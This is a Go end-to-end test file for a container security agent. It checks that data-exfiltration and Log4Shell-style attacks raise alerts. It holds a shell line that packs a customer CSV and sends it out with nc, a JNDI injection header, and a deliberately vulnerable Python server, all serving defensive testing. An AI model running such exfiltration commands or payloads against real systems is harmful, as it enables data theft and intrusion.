// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-project/holdfast/collector/view"
	"github.com/holdfast-project/holdfast/tests/lab"
	"github.com/holdfast-project/holdfast/tests/rig"
	"github.com/holdfast-project/holdfast/tests/wait"
)

// leakPolicy lets a container contact one address.
const leakPolicy = `apiVersion: holdfast.dev/v1alpha1
kind: Profile
metadata: {namespace: shop, kind: Pod, name: leak, container: app}
modes: {egress: monitor}
processes:
  - path: '*'
    egress:
      - {cidr: 203.0.113.10/32, protocol: tcp, port: 80}
`

// leakScript packs a file and sends it to an address.
const leakScript = `gzip -c /data/customers.csv >/tmp/c.gz; sleep 1; nc -w 5 %s 80 </tmp/c.gz; true`

// writeFile puts a text into a new file.
func writeFile(t *testing.T, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "file.yaml")
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestLabelledFileIsFollowed has a container read a labelled file, pack it and send it, first to an address that its profile
// holds, then to another: one alert tells the second, in order, with the file and the bytes.
func TestLabelledFileIsFollowed(t *testing.T) {
	const held, foreign = "203.0.113.10", "203.0.113.9"
	r := startRig(t, rig.Config{AgentArgs: []string{
		"--dlp-mode", "monitor", "--policy-file", writeFile(t, leakPolicy),
		"--dlp-labels", writeFile(t, customersLabel),
	}})
	webSink(t, r, held)
	webSink(t, r, foreign)
	image := attacker(t, r)
	c := run(t, runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "leak"}), lab.ContainerConfig{
		Name: "app", Image: image.Name, Command: []string{"sleep", "100000"},
		Mounts: []lab.Mount{{HostPath: customersDir(t, r), ContainerPath: filepath.Dir(customers), ReadOnly: true}},
	})
	if err := wait.For(t.Context(), time.Minute, func() error { return inMode(t, r, "shop/leak", "egress", "monitor") }); err != nil {
		t.Fatal(err)
	}
	for _, to := range []string{held, foreign} {
		if got, err := c.Exec(t.Context(), "/bin/sh", "-c", fmt.Sprintf(leakScript, to)); err != nil {
			t.Fatalf("%v: %+v", err, got)
		}
	}
	var told []view.Alert
	err := wait.For(t.Context(), time.Minute, func() error {
		told = nil
		for _, rule := range []string{"Labelled data sent", "Labelled file in what is sent"} {
			alerts, err := r.Alerts(t.Context(), "--rule", rule)
			if err != nil {
				return err
			}
			told = append(told, alerts...)
		}
		if len(told) == 0 {
			return fmt.Errorf("no alert")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range told {
		t.Log(a.Output)
	}
	a := told[0]
	if len(told) != 1 || a.Rule != "Labelled data sent" || a.Finding == nil || a.Finding.File != customers || a.Finding.Bytes < 1000 || a.Finding.Reason != "archive-send" ||
		a.Event.Network.RemoteAddress != foreign || a.Workload.Name != "leak" || a.Container.Name != "app" {
		t.Errorf("%d alerts, the first: %+v, finding %+v", len(told), a, a.Finding)
	}
	inOrder(t, a.Output, "read by", "packed by", "sent to "+foreign)
}

// inMode checks that a signal of a workload has a mode.
func inMode(t *testing.T, r *rig.Rig, pattern, signal, mode string) error {
	t.Helper()
	states, err := r.Workloads(t.Context(), pattern)
	if err != nil {
		return err
	}
	for _, w := range states {
		if slices.ContainsFunc(w.Signals, func(s view.SignalState) bool { return s.Signal == signal && s.Mode == mode }) {
			return nil
		}
	}
	return fmt.Errorf("%s of %s is not in mode %s: %+v", signal, pattern, mode, states)
}

// victimPolicy lets a container run Python and nothing else.
const victimPolicy = `apiVersion: holdfast.dev/v1alpha1
kind: Profile
metadata: {namespace: shop, kind: Pod, name: victim, container: app}
modes: {process: monitor}
processes:
  - {path: %s, anyArguments: true}
`

// victimProgram is a web server for Python that does what a log library once did: it runs what a header asks for.
const victimProgram = `import http.server, subprocess
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if "jndi:" in self.headers.get("User-Agent", "") and self.path == "/works":
            subprocess.run(["/bin/sh", "-c", "exit 0"])
        self.send_response(200)
        self.end_headers()
http.server.HTTPServer(("", 8000), Handler).serve_forever()`

// TestAttackThatWorkedIsTold sends a server an attack that does nothing, and one after which the server runs a shell: the
// second is one critical alert.
func TestAttackThatWorkedIsTold(t *testing.T) {
	python, err := filepath.EvalSymlinks("/usr/bin/python3")
	if err != nil {
		t.Fatal(err)
	}
	r := startRig(t, rig.Config{AgentArgs: []string{"--waf-mode", "monitor", "--policy-file", writeFile(t, fmt.Sprintf(victimPolicy, python))}})
	if err := r.Lab.Load(t.Context(), lab.Python); err != nil {
		t.Fatal(err)
	}
	pod := runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "victim"})
	run(t, pod, lab.ContainerConfig{Name: "app", Image: lab.PythonImage, Command: []string{"python3", "-c", victimProgram}})
	if err := pod.AwaitPort(t.Context(), 8000); err != nil {
		t.Fatal(err)
	}
	if err := wait.For(t.Context(), time.Minute, func() error { return inMode(t, r, "shop/victim", "process", "monitor") }); err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Transport: &http.Transport{DialContext: r.Lab.DialContext, DisableKeepAlives: true}}
	get := func(path string) {
		t.Helper()
		q, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+net.JoinHostPort(pod.IPs[0].String(), "8000")+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		q.Header.Set("User-Agent", "${jndi:ldap://203.0.113.66/a}")
		answer, err := client.Do(q)
		if err != nil {
			t.Fatal(err)
		}
		_ = answer.Body.Close()
	}
	alerts := func(rule string) []view.Alert {
		t.Helper()
		list, err := r.Alerts(t.Context(), "--rule", rule)
		if err != nil {
			t.Fatal(err)
		}
		return list
	}
	err = wait.For(t.Context(), time.Minute, func() error {
		get("/")
		if len(alerts("Attack in a request")) == 0 {
			return fmt.Errorf("no attack is told")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if list := alerts("Attack followed"); len(list) != 0 {
		t.Errorf("an attack that did nothing is told as one that worked: %+v", list)
	}
	get("/works")
	var told []view.Alert
	err = wait.For(t.Context(), time.Minute, func() error {
		if told = alerts("Attack followed"); len(told) == 0 {
			return fmt.Errorf("no alert")
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	a := told[0]
	t.Log(a.Output)
	if len(told) != 1 || !strings.EqualFold(a.Priority, "critical") || a.Finding == nil || a.Finding.Signal != "waf" || a.Finding.Class != "log4shell" ||
		a.Container.Name != "app" || !strings.Contains(a.Output, "exec of ") || strings.Contains(a.Output, "(pid 0)") {
		t.Errorf("%d alerts, the first: %+v, finding %+v", len(told), a, a.Finding)
	}
}
